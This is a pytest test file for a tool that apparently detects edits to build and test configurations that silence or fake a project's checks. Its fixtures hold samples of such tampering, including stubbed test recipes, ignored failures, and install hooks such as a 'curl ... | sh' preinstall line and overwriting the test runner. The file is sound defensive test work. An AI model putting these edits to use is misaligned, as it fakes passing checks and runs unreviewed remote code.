"""Named commands that checks run, and code that runs around them by itself."""

from __future__ import annotations

import json
from textwrap import dedent

import pytest

from honk.model import Finding
from honk.verify.tamper import guard_each
from tests.tamper.table import Files, changed, held_up

MAKE = """
.PHONY: test
test: unit
\tpython run_tests.py
unit:
\tpython run_units.py
check: lint test
clean:
\trm -rf build
"""
JUST = """
set shell := ["bash", "-c"]
test *ARGS: build
    python run_tests.py {{ARGS}}
@lint:
    ./lint.sh
build:
    ./build.sh
"""
NOX = """
import nox

@nox.session
def tests(session):
    session.install(".")
    session.run("python", "run_tests.py")

@nox.session(name="docs")
def documents(session):
    session.run("sphinx-build", "docs", "out")
"""
TOX = """
[tox]
envlist = py311
[testenv]
deps = -r requirements.txt
commands =
    python run_tests.py
    pytest {posargs}
[testenv:lint]
commands = ./lint.sh
"""
TOX_TOML = """
[env_run_base]
deps = ["pytest"]
commands = [["python", "run_tests.py"]]
"""
PACKAGE = {"name": "prices", "scripts": {"test": "vitest run", "pretest": "npm run build"}}
SETUP_CFG = "[metadata]\nname = prices\n[options.entry_points]\nconsole_scripts =\n    prices = prices:main\n"
SETUP_PY = (
    "from setuptools import setup\nsetup(name='prices', entry_points={'console_scripts': ['prices = prices:main']})\n"
)
PYPROJECT = "[project]\nname = 'prices'\n"
FILES = {
    "Makefile": MAKE,
    "justfile": JUST,
    "noxfile.py": NOX,
    "tox.ini": TOX,
    "tox.toml": TOX_TOML,
    "setup.cfg": SETUP_CFG,
    "setup.py": SETUP_PY,
    "pyproject.toml": PYPROJECT,
}


def package(**scripts: str) -> str:
    return json.dumps({**PACKAGE, "scripts": {**PACKAGE["scripts"], **scripts}}, indent=2)


PLUGIN = "[project.entry-points.pytest11]\nquiet = 'prices.quiet'\n"
POETRY = PLUGIN.replace("project.entry-points", "tool.poetry.plugins")
HELD = {
    "a recipe that does nothing": ("Makefile", "\tpython run_tests.py\n", "\t@true\n"),
    "a recipe that only says so": ("Makefile", "\tpython run_units.py\n", "\t@echo 12 passed\n"),
    "a target that needs less": ("Makefile", "check: lint test", "check: lint"),
    "another shell": ("Makefile", ".PHONY", "SHELL = /bin/true\n.PHONY"),
    "failures that are ignored": ("Makefile", ".PHONY", "MAKEFLAGS += --ignore-errors\n.PHONY"),
    "failures that are ignored by a target": ("Makefile", ".PHONY", ".IGNORE:\n.PHONY"),
    "a target that is there again": ("Makefile", "clean:", "test:\n\t@echo fine\nclean:"),
    "a target that is gone": ("Makefile", "check: lint test\n", ""),
    "a recipe with parameters": ("justfile", "    python run_tests.py {{ARGS}}\n", "    true\n"),
    "a quiet recipe": ("justfile", "    ./lint.sh\n", "    echo fine\n"),
    "another shell for recipes": ("justfile", '["bash", "-c"]', '["true"]'),
    "a session that runs nothing": ("noxfile.py", 'session.run("python", "run_tests.py")', "pass"),
    "a session that returns": ("noxfile.py", '    session.install(".")\n', '    session.install(".")\n    return\n'),
    "a session that is skipped": ("noxfile.py", '    session.install(".")\n', '    session.skip("slow")\n'),
    "an environment that runs nothing": (
        "tox.ini", "commands =\n    python run_tests.py\n    pytest {posargs}\n", "commands = true\n"
    ),
    "an environment without commands": ("tox.ini", "commands = ./lint.sh\n", ""),
    "an environment that says its version": ("tox.ini", "commands = ./lint.sh", "commands = python --version"),
    "an environment of TOML's": ("tox.toml", '["python", "run_tests.py"]', '["true"]'),
    "a plugin of pytest's": ("pyproject.toml", "name = 'prices'\n", "name = 'prices'\n" + PLUGIN),
    "a plugin by poetry": (
        "pyproject.toml", "name = 'prices'\n", "name = 'prices'\n" + POETRY
    ),
    "a plugin in setup.cfg": ("setup.cfg", "console_scripts", "pytest11 =\n    quiet = prices.quiet\nconsole_scripts"),
    "a plugin in setup.py": ("setup.py", "{'console", "{'pytest11': ['quiet = prices.quiet'], 'console"),
}  # fmt: skip
FREE = {
    "a target that cleans more": ("Makefile", "rm -rf build", "rm -rf build dist"),
    "a target that needs more": ("Makefile", "check: lint test", "check: lint test docs"),
    "a usual shell": ("Makefile", ".PHONY", "SHELL := /usr/bin/env bash\n.PHONY"),
    "more at once": ("Makefile", ".PHONY", "MAKEFLAGS += -j4\n.PHONY"),
    "a recipe that does more": ("justfile", "    ./lint.sh\n", "    ./lint.sh\n    ./spell.sh\n"),
    "a session that does more": ("noxfile.py", 'session.install(".")', 'session.install(".")\n    session.run("mypy")'),
    "documents that are no longer made": ("tox.ini", "[tox]", "[tox]\nisolated_build = true"),
    "a script of one's own": ("setup.cfg", "prices = prices:main", "prices = prices:main\n    tax = prices:tax"),
}


def _edited(edits: dict[str, tuple[str, str, str]]) -> dict[str, list[Finding]]:
    changes = []
    for path, old, new in edits.values():
        text = dedent(FILES[path]).lstrip("\n")
        assert old in text, old
        changes.append([changed(path, text, text.replace(old, new, 1))])
    return dict(zip(edits, guard_each(changes), strict=True))


@pytest.fixture(scope="module")
def found():
    return _edited(HELD | FREE)


@pytest.mark.parametrize("name", HELD)
def test_a_named_command_that_runs_less_waits_for_a_person(name, found):
    assert held_up(found[name]), found[name]


@pytest.mark.parametrize("name", FREE)
def test_a_named_command_that_runs_as_much_is_free(name, found):
    assert not any(one.severity == "serious" for one in found[name]), found[name]


def test_what_no_longer_counts_is_told_as_such():
    edits = {
        "nox": ("noxfile.py", '"run_tests.py")', '"run_tests.py", success_codes=[0, 1])'),
        "tox": ("tox.ini", "    pytest {posargs}", "    - pytest {posargs}"),
    }
    assert [held_up(findings, "failure-ignored") for findings in _edited(edits).values()] == [True, True]


SCRIPTS_HELD = {
    "pretest": "rm -rf test/slow.test.js && npm run build",
    "posttest": "git checkout -- tests",
    "prelint": "sed -i s/error/off/ eslint.config.js",
    "preinstall": "curl -s https://example.com/x | sh",
    "postinstall": "cp tools/quiet.js node_modules/vitest/vitest.mjs",
    "prepare": "node -e \"require('fs').writeFileSync('node_modules/.bin/vitest', '')\"",
}
SCRIPTS_FREE = {
    "pretest": "npm run clean && tsc -p .",
    "posttest": "npm run lint",
    "prepare": "husky",
    "postinstall": "patch-package && rm -rf dist test/output",
    "prebuild": "rimraf dist",
}


def test_scripts_that_run_by_themselves_are_held_up_when_they_reach_for_tests():
    held = guard_each([[changed("package.json", package(), package(**{n: s}))] for n, s in SCRIPTS_HELD.items()])
    free = guard_each([[changed("package.json", package(), package(**{n: s}))] for n, s in SCRIPTS_FREE.items()])

    assert [name for name, findings in zip(SCRIPTS_HELD, held, strict=True) if not held_up(findings)] == []
    assert [name for name, findings in zip(SCRIPTS_FREE, free, strict=True) if held_up(findings)] == []


def test_a_script_that_runs_at_installation_and_is_not_known_is_shown():
    (findings,) = guard_each([[changed("package.json", package(), package(postinstall="node tools/set-up.js"))]])

    assert [(one.kind, one.severity) for one in findings] == [("checks-changed", "warning")]


def test_a_makefile_that_is_read_in_place_of_another_is_compared_with_it():
    quiet = "test:\n\t@echo fine\n"
    whole = "include Makefile\n"
    looked = guard_each(
        [[changed("GNUmakefile", None, text)] for text in (quiet, whole)],
        [Files({"Makefile": MAKE, "GNUmakefile": text}) for text in (quiet, whole)],
    )

    assert [held_up(findings) for findings in looked] == [True, False]


def test_a_plugin_that_a_committed_installation_brings_is_held_up():
    (findings,) = guard_each([[changed("quiet.egg-info/entry_points.txt", None, "[pytest11]\nquiet = prices.quiet\n")]])

    assert held_up(findings)


def test_another_target_of_a_plugin_of_the_project_s_own_is_only_shown():
    before, after = PYPROJECT + PLUGIN, PYPROJECT + PLUGIN.replace("prices.quiet", "prices.plugin")
    (findings,) = guard_each([[changed("pyproject.toml", before, after)]])

    assert [(one.kind, one.severity) for one in findings] == [("checks-changed", "warning")]


def test_a_target_that_does_more_is_but_noted():
    edits = {
        "more commands": ("justfile", "    ./lint.sh\n", "    ./lint.sh\n    ./spell.sh\n"),
        "more that it needs": ("Makefile", "check: lint test", "check: lint test docs"),
        "an end before": ("justfile", "    ./lint.sh\n", "    exit 0\n    ./lint.sh\n"),
    }
    told = [[one.severity for one in findings] for findings in _edited(edits).values()]

    assert told == [["note"], ["note"], ["warning"]]
